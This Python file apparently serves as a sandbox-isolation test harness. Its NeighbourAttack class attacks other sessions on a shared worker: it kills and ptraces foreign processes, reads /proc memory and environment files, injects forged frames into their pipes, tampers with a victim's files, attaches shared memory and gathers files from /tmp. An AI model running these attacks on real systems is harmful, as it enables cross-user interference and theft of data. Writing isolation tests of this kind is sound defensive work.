"""Attacks the other session on its worker, as a capable program would, and reports what worked. Told where the
victim is (its pid, working directory, /tmp file and SysV segment, as a program could find by scanning /proc and
/tmp), it tries to stop, kill or ptrace every process of another uid (the victim's, the spare's, the zygote's),
to read their /proc files (memory, environment, fds, cwd), to read, write, replace or delete the victim's files,
to attach every SysV segment it can see, to write forged frames into the zygote's channels (and any other
process's pipes) through /proc/<pid>/fd, and to read everything it can under /tmp and /dev/shm (the loot). `got`: what
worked; `tried`: every attempt and its errno."""

import os
import signal

PROC_FILES = ("environ", "mem", "maps", "fd", "cwd", "root", "stack", "syscall", "auxv", "pagemap")


class NeighbourAttack:
    def __init__(self, victim=None, **kw):
        self.victim = victim or {}

    def reset(self, seed=None):
        return "ready", {}

    def step(self, action):
        self.got, self.tried = [], {}
        v = self.victim
        me = os.getuid()
        others = sorted({p for p, uid in _processes() if uid != me} | {v.get("pid", 0)} - {0})
        for pid in others:
            self.attack_process(pid)
        self.attack_files(v)
        self.attack_shm()
        loot = _loot(["/tmp", "/dev/shm"])
        info = {"got": self.got, "tried": self.tried, "loot": loot, "targets": others, "init_group": _group(1)}
        return "done", 0.0, True, False, info

    def attempt(self, name, fn, quiet=False):
        try:
            fn()
        except OSError as e:
            self.tried[name] = e.errno
            return
        except Exception as e:
            self.tried[name] = type(e).__name__
            return
        self.tried[name] = "ok"
        if not quiet:
            self.got.append(name)

    def attack_process(self, pid):
        for sig in (0, signal.SIGSTOP, signal.SIGKILL):
            self.attempt(f"kill({pid}, {int(sig)})", lambda sig=sig: os.kill(pid, sig))
        try:
            group = os.getpgid(pid)
        except OSError:
            group = pid
        self.attempt(f"killpg({group})", lambda: os.killpg(group, signal.SIGKILL))
        for name in PROC_FILES:
            path = f"/proc/{pid}/{name}"
            self.attempt(f"read {path}", lambda path=path: _read(path))
        forged = (30).to_bytes(4, "big") + b'{"ok":true,"value":"FORGED!!"}'
        for fd in range(12):  # another process's pipes (the zygote's: every session's channel) reopened by path
            path = f"/proc/{pid}/fd/{fd}"
            try:
                target = os.readlink(path)
            except OSError:
                target = "?"
            self.attempt(f"forge on {path} ({target})", lambda path=path: _write_bytes(path, forged))

        def ptrace():
            import ctypes  # refused in the sandbox (its guard), and ptrace by its seccomp filter beneath that

            libc = ctypes.CDLL(None, use_errno=True)
            if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
                raise OSError(ctypes.get_errno(), "ptrace")
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH

        self.attempt(f"ptrace({pid})", ptrace)

    def attack_files(self, v):
        cwd, tmp_file = v.get("cwd", "/nonexistent"), v.get("tmp_file", "/nonexistent")
        state = os.path.join(cwd, "state.txt")
        self.attempt("list victim cwd", lambda: os.listdir(cwd))
        self.attempt("read victim state", lambda: _read(state))
        self.attempt("read victim tmp file", lambda: _read(tmp_file))
        self.attempt("write into victim cwd", lambda: _write(os.path.join(cwd, "evil"), "x"))
        self.attempt("overwrite victim tmp file", lambda: _write(tmp_file, "pwned"))
        self.attempt("unlink victim tmp file", lambda: os.unlink(tmp_file))
        self.attempt("rename victim cwd", lambda: os.rename(cwd, cwd + "-stolen"))
        self.attempt("chmod victim cwd", lambda: os.chmod(cwd, 0o777))
        self.attempt("symlink over victim tmp file", lambda: os.symlink("/tmp", tmp_file))

    def attack_shm(self):
        try:
            import ctypes  # refused in the sandbox (its guard); SysV calls are refused by its seccomp filter too
        except PermissionError:
            self.tried["import ctypes"] = "PermissionError"
            return
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        ids = {self.victim.get("shmid", -1)}
        try:
            with open("/proc/sysvipc/shm") as f:
                ids |= {int(line.split()[1]) for line in list(f)[1:] if line.split()}
        except (OSError, ValueError, IndexError):
            pass
        for shmid in sorted(i for i in ids if isinstance(i, int) and i >= 0):

            def attach(shmid=shmid):
                addr = libc.shmat(shmid, None, 0o10000)  # SHM_RDONLY
                if addr in (None, ctypes.c_void_p(-1).value):
                    raise OSError(ctypes.get_errno(), "shmat")
                self.loot_shm = ctypes.string_at(addr, 64)

            self.attempt(f"shmat({shmid})", attach)


def _processes():
    out = []
    try:
        names = os.listdir("/proc")
    except PermissionError:  # the episode's guard shows it only its own entries
        names = []
    for name in names:
        if name.isdigit() and int(name) != os.getpid():
            try:
                with open(f"/proc/{name}/status") as f:
                    uid = next(int(line.split()[1]) for line in f if line.startswith("Uid:"))
                out.append((int(name), uid))
            except (OSError, StopIteration, ValueError):
                pass
    return out


def _group(pid):
    try:
        return os.getpgid(pid)
    except OSError:
        return None


def _read(path):
    if os.path.isdir(path):
        return os.listdir(path)
    with open(path, "rb") as f:
        return f.read(4096)


def _write(path, text):
    with open(path, "w") as f:
        f.write(text)


def _write_bytes(path, data):
    fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    try:
        os.write(fd, data)
    finally:
        os.close(fd)


def _loot(roots):
    found = []
    for root in roots:
        for dirpath, _, files in os.walk(root):
            for name in files:
                try:
                    with open(os.path.join(dirpath, name), "rb") as f:
                        found.append(f.read(256).decode("utf-8", "replace"))
                except OSError:
                    pass
    return found[:200]
